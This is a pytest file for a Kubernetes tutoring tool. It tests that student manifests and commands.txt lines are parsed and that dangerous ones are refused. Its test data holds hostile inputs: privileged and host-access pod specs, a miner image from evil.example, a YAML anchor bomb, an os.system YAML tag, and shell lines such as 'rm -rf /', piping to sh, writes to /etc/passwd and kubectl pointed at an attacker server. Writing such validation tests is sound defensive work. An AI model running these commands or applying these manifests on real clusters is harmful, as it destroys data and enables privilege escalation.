"""What a student hands in is read without trust: right work in many styles whole, hostile work refused by its line."""

from __future__ import annotations

import os
import socket
from pathlib import Path

import pytest

from k8s_tutor.cli.main import main
from k8s_tutor.grading.commands import parse
from k8s_tutor.grading.submission import Submission, expected, read
from k8s_tutor.labs.loader import load

POD = """apiVersion: v1
kind: Pod
metadata:
  name: nginx-pod
  labels: {app: nginx}
spec:
  containers:
    - name: web
      image: nginx
"""
DEPLOYMENT = """apiVersion: apps/v1
kind: Deployment
metadata: {name: nginx-deployment}
spec:
  replicas: 3
  selector: {matchLabels: {app: nginx}}
  template:
    metadata: {labels: {app: nginx}}
    spec: {containers: [{name: web, image: nginx, ports: [{containerPort: 80}]}]}
"""
IMAGES = frozenset({"nginx", "nginx:1.20.1"})


def handed_in(folder: Path, files: dict[str, str], lab: str = "lab1") -> Submission:
    place = folder / lab
    place.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (place / name).write_text(text)
    return read(folder, load(lab), "ann")


def test_what_a_lab_asks_for_is_read_from_it() -> None:
    one, two = expected(load("lab1")), expected(load("lab2"))
    assert one.manifests == ("nginx-pod.yaml",) and not one.commands and one.questions
    assert two.manifests == ("nginx-deploy.yaml",) or "nginx-deploy.yaml" in two.manifests
    assert two.commands


@pytest.mark.parametrize(
    "text",
    [
        POD,
        '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"nginx-pod"},"spec":{"containers":[{"name":"web","image":"nginx"}]}}',
        f"apiVersion: v1\nkind: List\nitems:\n- {POD.replace(chr(10), chr(10) + '  ').rstrip()}\n",
        f"# my work\n---\n{POD}---\n{DEPLOYMENT}",
        POD.replace("image: nginx", "image: docker.io/library/nginx:1.27"),
        POD.replace("image: nginx", f"image: nginx@sha256:{'0' * 64}"),
        POD.replace("image: nginx", "image: ngnix"),
        POD.replace("  name: nginx-pod", "  name: nginx-pod\n  namespace: learner\n  annotations: {why: because}"),
        POD + "      resources: {limits: {cpu: 100m}}\n      readinessProbe: {httpGet: {path: /, port: 80}}\n",
        POD + "  serviceAccountName: default\n  restartPolicy: Always\n  volumes: [{name: v, emptyDir: {}}]\n",
        POD + "      securityContext: {capabilities: {drop: [ALL]}, runAsNonRoot: true}\n",
    ],
    ids=[
        "yaml",
        "json",
        "list",
        "documents",
        "whole-name",
        "digest",
        "slip",
        "namespace",
        "limits",
        "defaults",
        "strict",
    ],
)
def test_right_work_is_taken_in_many_styles(tmp_path: Path, text: str) -> None:
    found = handed_in(tmp_path, {"nginx-pod.yaml": text})
    assert [manifest.name for manifest in found.manifests] == ["nginx-pod.yaml"], found.problems
    assert found.manifests[0].text == text
    assert not any(problem.refused for problem in found.problems)


HOSTILE = {
    "privileged": (POD + "      securityContext: {privileged: true}\n", 10, "privileged"),
    "escalated": (POD + "      securityContext: {capabilities: {add: [SYS_ADMIN]}}\n", 10, "not added"),
    "proc-mount": (POD + "      securityContext: {procMount: Unmasked}\n", 10, "procMount"),
    "host-path": (POD + "  volumes:\n    - name: v\n      hostPath: {path: /}\n", 12, "hostPath"),
    "nfs": (POD + "  volumes: [{name: v, nfs: {server: a, path: /}}]\n", 10, "nfs"),
    "token": (POD + "  volumes: [{name: v, projected: {sources: []}}]\n", 10, "projected"),
    "host-network": (POD + "  hostNetwork: true\n", 10, "hostNetwork"),
    "host-pid": (POD + "  hostPID: true\n", 10, "hostPID"),
    "host-ipc": (POD + "  hostIPC: true\n", 10, "hostIPC"),
    "host-port": (POD + "      ports: [{containerPort: 80, hostPort: 80}]\n", 10, "hostPort"),
    "node-name": (POD + "  nodeName: control-plane\n", 10, "nodeName"),
    "node-selector": (POD + "  nodeSelector: {node-role.kubernetes.io/control-plane: ''}\n", 10, "nodeSelector"),
    "toleration": (POD + "  tolerations: [{operator: Exists}]\n", 10, "tolerations"),
    "affinity": (POD + "  affinity: {nodeAffinity: {}}\n", 10, "affinity"),
    "priority": (POD + "  priorityClassName: system-node-critical\n", 10, "priorityClassName"),
    "scheduler": (POD + "  schedulerName: mine\n", 10, "schedulerName"),
    "runtime": (POD + "  runtimeClassName: kata\n", 10, "runtimeClassName"),
    "account": (POD + "  serviceAccountName: admin\n", 10, "serviceAccountName"),
    "aliases": (POD + "  hostAliases: [{ip: 1.1.1.1, hostnames: [a]}]\n", 10, "hostAliases"),
    "debug-container": (POD + "  ephemeralContainers: []\n", 10, "ephemeralContainers"),
    "finalizer": (POD.replace("name: nginx-pod", "name: nginx-pod\n  finalizers: [a/b]"), 5, "finalizers"),
    "owner": (POD.replace("name: nginx-pod", "name: nginx-pod\n  ownerReferences: []"), 5, "ownerReferences"),
    "elsewhere": (POD.replace("name: nginx-pod", "name: nginx-pod\n  namespace: kube-system"), 5, "kube-system"),
    "image": (POD.replace("image: nginx", "image: evil.example/miner"), 9, "none of this lab's"),
    "many": (DEPLOYMENT.replace("replicas: 3", "replicas: 5000"), 5, "15 is the most"),
    "template": (DEPLOYMENT.replace("spec: {containers", "spec: {hostPID: true, containers"), 9, "hostPID"),
    "cluster-role": ("apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: a}\n", 2,
                     "ClusterRoleBinding"),
    "webhook": ("apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\n", 2, "Webhook"),
    "daemon-set": ("apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: a}\n", 2, "DaemonSet"),
    "namespace": ("apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n", 2, "Namespace"),
    "look-alike": ("apiVersion: v1\nkind: Ρod\nmetadata: {name: a}\n", 2, "may not be handed in"),
    "list-in-list": ("apiVersion: v1\nkind: List\nitems: [{apiVersion: v1, kind: List, items: []}]\n", 3, "List"),
    "external": ("apiVersion: v1\nkind: Service\nspec:\n  externalIPs: [1.1.1.1]\n", 4, "leads out"),
    "external-name": ("apiVersion: v1\nkind: Service\nspec:\n  type: ExternalName\n", 4, "ExternalName"),
    "markup": ("apiVersion: v1\nkind: '\x1b[31m[b]<script>'\n", 0, ""),
    "no-object": ("- 1\n- 2\n", 1, "no Kubernetes object"),
    "twenty-one": ("---\n".join([POD] * 21), 0, "20 are the most"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_what_could_harm_others_is_refused_with_its_line(tmp_path: Path, name: str) -> None:
    text, line, says = HOSTILE[name]
    found = handed_in(tmp_path, {"nginx-pod.yaml": text})
    assert found.manifests == (), "nothing of the file is applied"
    problems = [problem for problem in found.problems if problem.file == "nginx-pod.yaml"]
    assert problems and any(says in problem.message for problem in problems), problems
    if line:
        assert any(problem.line == line and problem.refused for problem in problems), problems
    assert all(problem.message.isprintable() and len(problem.message) < 500 for problem in found.problems)


BROKEN = {
    "bomb": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{b}: &{b} [{','.join(f'*{a}' for _ in range(9))}]\n" for a, b in zip("abcdefg", "bcdefgh", strict=True)),
    "ten-thousand": "---\n".join(["a: 1\n"] * 10_000),
    "deep": "[" * 5000,
    "twice": "kind: Pod\nkind: Pod\n",
    "tab": "kind:\tPod\n\tmetadata: a\n",
    "tag": "kind: !!python/object/apply:os.system ['touch /tmp/x']\n",
    "nul": "kind: \0\n",
    "empty": "# nothing\n",
}  # fmt: skip


@pytest.mark.parametrize("name", BROKEN)
def test_what_cannot_be_read_is_a_finding(tmp_path: Path, name: str) -> None:
    found = handed_in(tmp_path, {"nginx-pod.yaml": BROKEN[name]})
    assert found.manifests == ()
    assert [problem for problem in found.problems if problem.file == "nginx-pod.yaml"], found.problems


def test_links_pipes_and_odd_names_are_not_followed(tmp_path: Path) -> None:
    place = tmp_path / "lab1"
    place.mkdir()
    (tmp_path / "secret.yaml").write_text(POD)
    (place / "nginx-pod.yaml").symlink_to(tmp_path / "secret.yaml")
    os.mkfifo(place / "pipe.yaml")
    (place / "folder.yaml").mkdir()
    (place / "huge.yaml").write_bytes(b"#" * (300 * 1024))
    (place / "latin.yaml").write_bytes(b"a: \xe9\n")
    (place / "nginx\N{NON-BREAKING HYPHEN}pod.yaml").write_text(POD)
    (place / "a\nb.yaml").write_text(POD)
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(place / "socket.yaml"))
        found = read(tmp_path, load("lab1"), "ann")
    assert found.manifests == ()
    told = {problem.file: problem.message for problem in found.problems}
    assert "a link" in told["nginx-pod.yaml"] and "no file" in told["pipe.yaml"]
    assert "larger than 256 KiB" in told["huge.yaml"] and "no UTF-8" in told["latin.yaml"]
    assert "plain letters" in told["nginx\N{NON-BREAKING HYPHEN}pod.yaml"]
    assert "folder.yaml" in told and "socket.yaml" in told
    assert all(problem.file.isprintable() for problem in found.problems)


def test_a_lab_folder_that_is_a_link_is_not_entered(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "nginx-pod.yaml").write_text(POD)
    (tmp_path / "work").mkdir()
    (tmp_path / "work" / "lab1").symlink_to(tmp_path / "elsewhere")
    found = read(tmp_path / "work", load("lab1"), "ann")
    assert found.manifests == () and any("not handed in" in problem.message for problem in found.problems)
    assert read(tmp_path / "nowhere", load("lab1"), "ann").problems[0].message == "there is no such folder"


def test_many_files_are_not_read_without_end(tmp_path: Path) -> None:
    found = handed_in(tmp_path, {f"f-{number:04}.yaml": POD for number in range(1200)})
    assert len(found.manifests) == 100
    assert any("more than 1000 files" in problem.message for problem in found.problems)


def test_answers(tmp_path: Path) -> None:
    question = expected(load("lab1")).questions[0]
    found = handed_in(tmp_path, {"nginx-pod.yaml": POD, "answers.yaml": f"{question}: 10.0.0.1\nelse: a\nlist: [1]\n"})
    assert found.answers == {question: "10.0.0.1"}
    told = [(problem.line, problem.message) for problem in found.problems if problem.file == "answers.yaml"]
    assert told == [(2, "'else' is no question of this lab"), (3, "'list' is no question of this lab")]
    for broken in ("[1, 2]", "a: [", "just text"):
        again = handed_in(tmp_path, {"answers.yaml": broken})
        assert again.answers == {} and any(problem.file == "answers.yaml" for problem in again.problems)


def test_the_digest_is_of_what_was_handed_in(tmp_path: Path) -> None:
    first = handed_in(tmp_path / "a", {"nginx-pod.yaml": POD}).digest
    assert handed_in(tmp_path / "b", {"nginx-pod.yaml": POD}).digest == first
    assert handed_in(tmp_path / "c", {"nginx-pod.yaml": POD + "\n"}).digest != first
    assert handed_in(tmp_path / "d", {"nginx-pod.yml": POD}).digest != first
    (tmp_path / "a" / "lab1" / ".hidden").write_text("x")
    assert read(tmp_path / "a", load("lab1"), "ann").digest == first


# commands.txt


@pytest.mark.parametrize(
    ("line", "argv"),
    [
        ("kubectl scale deployment nginx-deployment --replicas=10", "scale deployment nginx-deployment --replicas=10"),
        ("kubectl scale deploy/nginx-deployment --replicas 10", "scale deploy/nginx-deployment --replicas=10"),
        ("k scale --replicas=10 deployments web -n learner", "scale deployments web --replicas=10"),
        ("kubectl expose deployment nginx-deployment --name=nginx-service --port=80",
         "expose deployment nginx-deployment --name=nginx-service --port=80"),
        ("kubectl delete pod -l app=nginx --wait=false", "delete pod -l=app=nginx --wait=false"),
        ("kubectl delete pod nginx-deployment-abc-x1 --now", "delete pod nginx-deployment-abc-x1 --now"),
        ("kubectl set image pod/nginx-pod web=nginx:1.20.1", "set image pod/nginx-pod web=nginx:1.20.1"),
        ('kubectl set image deployment nginx-deployment "web=nginx:1.20.1"',
         "set image deployment nginx-deployment web=nginx:1.20.1"),
        ("kubectl apply -f nginx-deploy.yaml", "apply -f=nginx-deploy.yaml"),
        ("kubectl apply --filename=nginx-deploy.yaml --server-side",
         "apply --filename=nginx-deploy.yaml --server-side"),
        ("kubectl run nginx-pod --image=nginx --labels=app=nginx", "run nginx-pod --image=nginx --labels=app=nginx"),
        ("kubectl rollout restart deployment/nginx-deployment", "rollout restart deployment/nginx-deployment"),
        ("kubectl get pods -o wide", "get pods -o=wide"),
        ("kubectl label pod nginx-pod tier=web --overwrite", "label pod nginx-pod tier=web --overwrite"),
    ],
)  # fmt: skip
def test_plain_lines_are_taken(line: str, argv: str) -> None:
    (command,), problems = parse(f"# mine\n\n{line}\n", frozenset({"nginx-deploy.yaml"}), IMAGES)
    assert problems == []
    assert (command.line, " ".join(command.argv), command.text) == (3, argv, line)


REFUSED = [
    "rm -rf /", "kubectl get pods; rm -rf /", "kubectl get pods | sh", "kubectl get pods && reboot",
    "kubectl get pods > /etc/passwd", "kubectl delete pod $(cat /etc/passwd)", "kubectl delete pod `id`",
    "kubectl delete pod $HOME", "kubectl get pods &", "kubectl get pods #; id\x00", "kubectl 'unfinished",
    "kubectl --kubeconfig /home/ann/.kube/config get pods", "kubectl get pods --kubeconfig=/home/ann/.kube/config",
    "kubectl get pods -s https://evil.example", "kubectl get pods --server=https://evil.example",
    "kubectl get pods --token=abc", "kubectl get pods --as=system:admin", "kubectl get pods --context prod",
    "kubectl get pods -A", "kubectl get pods --all-namespaces", "kubectl get pods -n kube-system",
    "kubectl get pods -nkube-system", "kubectl get secrets", "kubectl get nodes", "kubectl get pods,secrets",
    "kubectl apply -f http://evil.example/x.yaml", "kubectl apply -f ../other/nginx-deploy.yaml",
    "kubectl apply -f /etc/passwd", "kubectl apply -f -", "kubectl apply -k .", "kubectl apply -R -f .",
    "kubectl apply -f nginx-deploy.yaml --prune --all", "kubectl exec nginx-pod -- sh", "kubectl cp a:/x .",
    "kubectl port-forward pod/a 80", "kubectl proxy", "kubectl debug nginx-pod", "kubectl attach nginx-pod",
    "kubectl patch pod nginx-pod -p {}", "kubectl edit pod nginx-pod", "kubectl config view", "kubectl drain node1",
    "kubectl auth can-i get pods", "kubectl create clusterrolebinding a --clusterrole=cluster-admin --user=me",
    "kubectl create deployment a --image=nginx", "kubectl delete pod --all", "kubectl delete namespace learner",
    "kubectl delete -f nginx-deploy.yaml pod a", "kubectl scale deployment nginx-deployment --replicas=5000",
    "kubectl scale deployment nginx-deployment --replicas=-1", "kubectl scale deployment a --replicas=１０",
    "kubectl run a --image=evil.example/miner", "kubectl run a --image=nginx -- sh -c id",
    "kubectl run a b --image=nginx",
    "kubectl run a --image=nginx --overrides={}", "kubectl run a --image=nginx --privileged",
    "kubectl set image pod/a web=evil.example/miner", "kubectl set image pod/a", "kubectl set env pod/a A=b",
    "kubectl expose deployment a --type=LoadBalancer", "kubectl expose deployment a --external-ip=1.1.1.1",
    "kubectl label node node1 a=b", "kubectl label namespace learner pod-security.kubernetes.io/enforce=privileged",
    "kubectl scale", "kubectl", "kubectl get pods --raw /api", "kubеctl get pods", "kubectl gеt pods",
    "kubectl delete pod ../../x", "x" * 2000, "sudo kubectl get pods", "KUBECONFIG=/x kubectl get pods",
]  # fmt: skip


@pytest.mark.parametrize("line", REFUSED)
def test_everything_else_is_refused_with_its_line(line: str) -> None:
    commands, problems = parse(f"kubectl get pods\n{line}\n", frozenset({"nginx-deploy.yaml"}), IMAGES)
    assert [command.text for command in commands] == ["kubectl get pods"]
    (problem,) = problems
    assert problem.where == "commands.txt:2" and problem.refused
    assert problem.message.isprintable() and len(problem.message) < 400


def test_a_file_without_end_ends(tmp_path: Path) -> None:
    commands, problems = parse("kubectl get pods\n" * 1000, frozenset(), IMAGES)
    assert len(commands) == 50 and problems[0].line == 51


# k8s-tutor submit


def test_submit_makes_the_folder_again_and_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("K8S_TUTOR_HOME", str(tmp_path / "home"))
    assert main(["submit", "lab2"]) == 2
    assert "nothing of lab2 to hand in" in capsys.readouterr().err
    work = tmp_path / "home" / "lab2"
    work.mkdir(parents=True)
    (work / "nginx-deploy.yaml").write_text(DEPLOYMENT)
    (work / "notes.txt").write_text("mine")
    assert main(["submit", "lab2"]) in (0, 1)
    folder = tmp_path / "home" / "submission" / "lab2"
    out = capsys.readouterr()
    assert str(folder) in out.out and "sha256" in out.out
    assert "# step" in (work / "commands.txt").read_text(), "what is asked for is put there to be filled in"
    assert not (folder / "notes.txt").exists()
    (work / "commands.txt").write_text(
        "kubectl scale deployment nginx-deployment --replicas=10\nkubectl exec a -- sh\n"
    )
    assert main(["submit", "lab2"]) == 1
    assert "commands.txt:2: refused: kubectl exec may not be handed in" in capsys.readouterr().err
    assert "--replicas=10" in (folder / "commands.txt").read_text()
    assert sorted(path.name for path in folder.parent.iterdir()) == ["lab2"], "nothing half made stays"


def test_submit_never_replaces_a_folder_that_it_did_not_make(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("K8S_TUTOR_HOME", str(tmp_path / "home"))
    work = tmp_path / "home" / "lab1"
    work.mkdir(parents=True)
    (work / "nginx-pod.yaml").write_text(POD)
    assert main(["submit", "lab1", "--to", str(tmp_path / "home")]) == 2
    assert "was not made by k8s-tutor submit" in capsys.readouterr().err
    assert (work / "nginx-pod.yaml").read_text() == POD
